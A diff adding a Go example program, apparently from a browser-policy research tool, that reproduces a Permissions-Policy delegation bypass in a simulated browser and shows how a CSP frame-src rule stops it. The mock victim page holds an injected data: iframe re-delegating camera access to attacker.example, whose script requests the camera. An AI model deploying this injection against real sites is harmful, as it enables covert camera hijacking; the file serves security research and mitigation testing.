@@ -1,0 +1,73 @@
+// Specissue demonstrates the §6.2 local-scheme delegation bypass end to
+// end through the mini browser — not just the policy engine — including
+// the CSP interaction: with no frame-src directive the attack works;
+// with frame-src 'self' the injected data: frame never loads.
+//
+//	go run ./examples/specissue
+package main
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"os"
+
+	"permodyssey/internal/browser"
+	"permodyssey/internal/policy"
+)
+
+func main() {
+	mkFetcher := func(csp string) browser.MapFetcher {
+		headers := http.Header{}
+		headers.Set("Permissions-Policy", "camera=(self)")
+		if csp != "" {
+			headers.Set("Content-Security-Policy", csp)
+		}
+		return browser.MapFetcher{
+			// The victim page. The attacker injected (e.g. via HTML
+			// injection under a CSP that stops scripts but not frames)
+			// a data: iframe that re-delegates camera outward.
+			"https://victim.example/": {Status: 200, Header: headers, Body: `
+				<html><body>
+				<h1>victim.example — Permissions-Policy: camera=(self)</h1>
+				<iframe src="data:text/html,<iframe src='https://attacker.example/spy' allow='camera'></iframe>" allow="camera"></iframe>
+				</body></html>`},
+			"https://attacker.example/spy": {Status: 200, Header: http.Header{}, Body: `
+				<script>
+				navigator.mediaDevices.getUserMedia({video: true})
+					.then(function (s) { console.log('camera hijacked'); })
+					.catch(function (e) { console.log('blocked'); });
+				</script>`},
+		}
+	}
+
+	run := func(label, csp string, mode policy.SpecMode) {
+		opts := browser.DefaultOptions()
+		opts.Mode = mode
+		b := browser.New(mkFetcher(csp), opts)
+		page, err := b.Visit(context.Background(), "https://victim.example/")
+		if err != nil {
+			fmt.Fprintln(os.Stderr, "specissue:", err)
+			os.Exit(1)
+		}
+		outcome := "attacker frame not loaded (CSP blocked the injection)"
+		for _, f := range page.Frames {
+			if f.URL != "https://attacker.example/spy" {
+				continue
+			}
+			outcome = "attacker camera BLOCKED"
+			for _, inv := range f.Invocations {
+				if !inv.Blocked {
+					outcome = "attacker camera GRANTED — permission hijacked"
+				}
+			}
+		}
+		fmt.Printf("%-46s → %s\n", label, outcome)
+	}
+
+	fmt.Println("victim declares Permissions-Policy: camera=(self)")
+	fmt.Println()
+	run("spec as written (Chromium), no CSP", "", policy.SpecActual)
+	run("expected behaviour, no CSP", "", policy.SpecExpected)
+	run("spec as written + CSP frame-src 'self'", "frame-src 'self'", policy.SpecActual)
+}
